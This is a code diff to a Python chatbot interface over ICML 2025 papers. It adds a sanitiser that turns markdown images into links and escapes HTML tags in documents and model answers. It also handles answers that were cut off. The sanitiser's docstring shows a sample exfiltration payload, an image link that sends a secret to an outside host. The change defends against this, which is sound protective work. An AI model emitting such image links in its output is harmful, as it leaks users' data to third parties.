@@ -15,6 +15,10 @@ from .errors import ChatbotError, ModelError
 FEEDBACK_FILE = "feedback.jsonl"
 NO_SOURCES = "<p class='hint'>The sources of the latest answer appear here.</p>"
 _MARKER = re.compile(r"\[(\d+)\]")
+# A `!` opening an image (`![alt](url)`, `![alt][ref]`), with the backslashes before it: an odd
+# number already escapes it. A `<` opening an HTML tag, comment or declaration.
+_IMAGE = re.compile(r"(\\*)!(?=\[)")
+_TAG = re.compile(r"<(?=[A-Za-z/!?])")
 _FEEDBACK_LOCK = threading.Lock()
 
 
@@ -28,6 +32,16 @@ def friendly(e: ChatbotError) -> str:
     if isinstance(e, ModelError):
         text += " Try again in a moment; if it keeps failing, check the model with `chatbot info`."
     return text
+
+
+def inert(text: str) -> str:
+    """Markdown `text` that loads nothing when shown: images become links, HTML tags plain text.
+
+    Documents and answers are not trusted: `![](http://host/?q=secret)` in either would make the
+    browser send the secret to that host, and an `<img>`, `<video>` or `<iframe>` would too.
+    """
+    text = _IMAGE.sub(lambda m: m[0] if len(m[1]) % 2 else f"{m[1]}\\!", text)
+    return _TAG.sub("&lt;", text)
 
 
 def linkify(text: str) -> str:
@@ -70,18 +84,20 @@ def sources_html(turn: dict[str, Any] | None) -> str:
 
 
 def chat_messages(turns: list[dict[str, Any]], partial: str | None = None) -> list[dict[str, str]]:
-    """The chat as Gradio messages: two per turn, so message i belongs to turn i // 2."""
+    """The chat as Gradio messages, two per turn (message i belongs to turn i // 2), inert."""
     messages = []
     for turn in turns:
         messages.append({"role": "user", "content": turn["question"]})
-        if turn.get("error"):
+        if turn.get("partial"):
+            content = f"{turn['partial']}\n\n⚠️ **The answer was cut off:** {turn['error']}"
+        elif turn.get("error"):
             content = f"⚠️ **Could not answer.** {turn['error']}"
         else:
             content = linkify(turn["answer"])
         messages.append({"role": "assistant", "content": content})
     if partial is not None:
         messages[-1]["content"] = linkify(partial) or "…"
-    return messages
+    return [{**m, "content": inert(m["content"])} for m in messages]
 
 
 def history_of(turns: list[dict[str, Any]]) -> list[dict[str, str]]:
@@ -99,6 +115,9 @@ def conversation_markdown(turns: list[dict[str, Any]], model: str) -> str:
     lines = ["# Conversation about ICML 2025 papers", "", f"Model: {model}", ""]
     for turn in turns:
         lines += [f"## {turn['question']}", ""]
+        if turn.get("partial"):
+            lines += [turn["partial"], "", f"_The answer was cut off: {turn['error']}_", ""]
+            continue
         if turn.get("error"):
             lines += [f"_Could not answer: {turn['error']}_", ""]
             continue
@@ -187,4 +206,4 @@ def document_markdown(doc: dict[str, Any]) -> str:
     if doc["paper"] or doc["url"]:
         paper = doc["paper"] or doc["url"]
         head.append(f"Paper: [{paper}]({doc['url']})" if doc["url"] else f"Paper: {paper}")
-    return "\n\n".join([*head, doc["text"]])
+    return inert("\n\n".join([*head, doc["text"]]))
